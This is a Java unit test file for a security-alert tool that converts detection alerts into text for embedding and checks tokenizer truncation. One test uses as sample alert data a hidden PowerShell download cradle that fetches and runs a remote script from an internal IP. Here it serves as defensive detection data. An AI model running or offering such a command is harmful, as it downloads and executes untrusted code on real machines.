package dev.vigil.analyst.similar;

import dev.vigil.detect.MatchedField;
import org.junit.jupiter.api.Test;

import java.util.List;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

/** The text of an alert that is embedded, by the recipe of {@link AlertText}. */
class AlertTextTest {

    @Test
    void followsTheRecipeWithTagsAndMatchedFieldsInOrder() {
        assertEquals("SSH brute force against srv-1. rule vigil-ssh-brute-force, level high. "
                        + "tags: attack.credential_access, attack.t1110. matched: host.name=srv-1; source.ip=203.0.113.9",
                AlertText.of(" SSH brute force against srv-1 ", "vigil-ssh-brute-force", "HIGH",
                        List.of("attack.credential_access", " attack.t1110"),
                        List.of(new MatchedField("host.name", "srv-1"), new MatchedField("source.ip", "203.0.113.9"))));
    }

    @Test
    void leavesOutTagsAndMatchedWhenThereAreNone() {
        assertEquals("Odd login. rule r1, level low.", AlertText.of("Odd login", "r1", "low", List.of(), List.of()));
    }

    @Test
    void replacesASigmaRuleUuidAndFileHashesByPlaceholders() {
        String text = AlertText.of("Scheduled task created", "92626ddd-662c-49e3-ac59-f6535f12d189", "high", List.of(),
                List.of(new MatchedField("Hashes", "SHA256=E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855")));
        assertEquals("Scheduled task created. rule uuid, level high. matched: Hashes=SHA256=hash", text);
    }

    @Test
    void theShippedEmbedderKeepsTitleRuleLevelTagsAndTheFirstMatchedFieldOfALongCommandLine() {
        WordPieceTokenizer tokenizer = MiniLm.tokenizer();
        WordPieceTokenizer kept = tokenizer.truncatedTo(AlertEmbedder.ALERT_TOKENS);
        String text = AlertText.of("Suspicious PowerShell download cradle on ws-7", "3b6ab547-8ec2-4991-b9d2-2b06702a48d7",
                "high", List.of("attack.execution", "attack.t1059.001"), List.of(new MatchedField("host.name", "ws-7"),
                        new MatchedField("CommandLine", "powershell.exe -nop -w hidden -c IEX (New-Object Net.WebClient)"
                                + ".DownloadString('http://10.0.0.8/a.ps1') ".repeat(3))));
        int[] all = tokenizer.encode(text);
        int[] ids = kept.encode(text);
        assertEquals(AlertEmbedder.ALERT_TOKENS, ids.length, "a long alert text is cut to the embedder's tokens");
        assertTrue(all.length > ids.length);
        int[] head = tokenizer.encode(text.substring(0, text.indexOf(" matched:") + " matched: host.name=ws-7; CommandLine".length()));
        for (int i = 1; i < head.length - 1; i++) {
            assertEquals(head[i], ids[i], "piece " + i + " of the title, rule, level, tags and first matched field is kept");
        }
    }
}
